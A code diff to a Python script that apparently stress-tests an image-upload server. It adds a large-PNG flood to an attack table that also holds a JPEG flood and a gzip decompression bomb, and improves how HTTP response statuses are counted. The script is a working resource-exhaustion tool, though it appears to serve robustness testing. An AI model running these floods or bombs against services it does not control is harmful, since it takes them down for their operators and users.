@@ -37,6 +37,12 @@ def _big_jpeg() -> bytes:
     return _encoded(pixels, "JPEG", quality=90)
 
 
+def _big_png() -> bytes:
+    down, right = np.mgrid[0:1200, 0:1600]
+    pixels = np.stack([(down * right * k) % 251 for k in (1, 2, 5)], axis=-1).astype(np.uint8)
+    return _encoded(pixels, "PNG", compress_level=1)
+
+
 def _deep_png() -> bytes:
     return _encoded(np.zeros((8000, 8000), np.uint16), "PNG")
 
@@ -64,6 +70,7 @@ Attack = tuple[int, Callable[[str], bytes]]
 
 ATTACKS: dict[str, Attack] = {
     "flood": (64, lambda task: _post(task, _big_jpeg())),
+    "pngs": (64, lambda task: _post(task, _big_png())),
     "gzip": (
         60,
         lambda task: _post(task, gzip.compress(bytes(64 * _MIB)), oip=True, headers="Content-Encoding: gzip\r\n"),
@@ -81,6 +88,20 @@ ATTACKS: dict[str, Attack] = {
 }
 
 
+def _answer(connection: socket.socket) -> str:
+    """Read one whole answer and return its status."""
+    head = b""
+    while b"\r\n\r\n" not in head:
+        if not (piece := connection.recv(65536)):
+            return "closed"
+        head += piece
+    head, _, body = head.partition(b"\r\n\r\n")
+    length = int(head.lower().partition(b"content-length: ")[2].split(b"\r\n")[0])
+    while len(body) < length and (piece := connection.recv(65536)):
+        body += piece
+    return head[9:12].decode()
+
+
 def main() -> None:
     name, address, task, seconds = sys.argv[1:]
     connections, make = ATTACKS[name]
@@ -95,8 +116,8 @@ def main() -> None:
                     connection.settimeout(max(0.1, until - time.monotonic() + 20))
                     while time.monotonic() < until:
                         connection.sendall(payload)
-                        status = connection.recv(65536)[9:12].decode(errors="replace")
-                        answers[status or "closed"] += 1
+                        status = _answer(connection)
+                        answers[status] += 1
                         if status != "200":
                             break
             except OSError:
